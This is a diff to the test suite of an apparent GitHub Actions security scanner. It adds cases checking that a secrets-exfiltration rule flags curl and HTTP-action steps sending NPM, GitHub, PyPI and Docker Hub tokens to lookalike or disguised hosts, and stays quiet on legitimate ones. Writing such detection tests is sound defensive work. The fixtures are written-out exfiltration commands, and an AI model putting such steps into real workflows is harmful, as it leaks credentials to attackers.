@@ -491,6 +491,44 @@ describe('gha-secrets-exfiltration, gha-overprovisioned-secrets, gha-unredacted-
     expect(only(local, 'gha-secrets-exfiltration')).toEqual([]);
   });
 
+  it('does not take a service\'s word in a subdomain anyone can pick (npm-mirror-sync.pages.dev, github-stats.workers.dev) for that service\'s host, and keeps the platform\'s own and the real hosts quiet', () => {
+    const lookalike = `on: push\n${job('      - run: curl -sd "$NODE_AUTH_TOKEN" https://npm-mirror-sync.pages.dev/sync\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n      - run: curl -s -d "t=${{ secrets.GH_PAT }}" https://github-stats.workers.dev/c\n')}`;
+    expect(only(lookalike, 'gha-secrets-exfiltration')).toEqual([
+      ['gha-secrets-exfiltration', 'high', 6],
+      ['gha-secrets-exfiltration', 'high', 9],
+    ]);
+    const own = `on: push\n${job('      - run: curl -s -d "token=${{ secrets.CLOUDFLARE_API_TOKEN }}" https://deploy.acme.workers.dev/hook\n      - run: curl -s -d "t=${{ secrets.NPM_TOKEN }}" https://registry.npmjs.org/-/npm/v1/tokens\n      - run: curl -s -F "token=${{ secrets.NETLIFY_AUTH_TOKEN }}" https://api.netlify.com/api/v1/sites\n')}`;
+    expect(only(own, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
+  it('reads a step of an HTTP request action (fjogeleit/http-request-action, …) as the curl it stands for: a secret in its data to another service\'s host, at the uses: line', () => {
+    const action = `on: push\n${job(`      - uses: fjogeleit/http-request-action@v1
+        with:
+          url: https://notify.build-hooks.dev/n
+          method: POST
+          data: '{"t": "\${{ secrets.PYPI_API_TOKEN }}"}'
+`)}`;
+    expect(only(action, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'high', 6]]);
+  });
+
+  it('is quiet on an HTTP request action given the token as its credential, a body without secrets, or an action of another kind', () => {
+    const quiet = `on: push\n${job(`      - uses: fjogeleit/http-request-action@v1
+        with:
+          url: https://api.example-deploys.dev/v1/hooks
+          bearerToken: \${{ secrets.DEPLOY_API_TOKEN }}
+          data: '{"ref": "\${{ github.sha }}"}'
+      - uses: joelwmale/webhook-action@v2
+        with:
+          url: \${{ secrets.SLACK_WEBHOOK_URL }}
+          body: '{"text": "released"}'
+      - uses: acme/notify-action@v1
+        with:
+          url: https://notify.build-hooks.dev/n
+          data: \${{ secrets.PYPI_API_TOKEN }}
+`)}`;
+    expect(only(quiet, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
   it('reads a collector host spelled through the script\'s own variables, and secrets a script variable holds (a here-document of toJSON(secrets) too)', () => {
     const split = `on: push\n${job('      - env:\n          K: ${{ secrets.DOCKERHUB_TOKEN }}\n        run: |\n          H="bold-dhawan"\n          D="$H.45-139-104-115.plesk.page"\n          curl -sk "https://$D/?k=$K" >/dev/null\n')}`;
     expect(only(split, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 11]]);
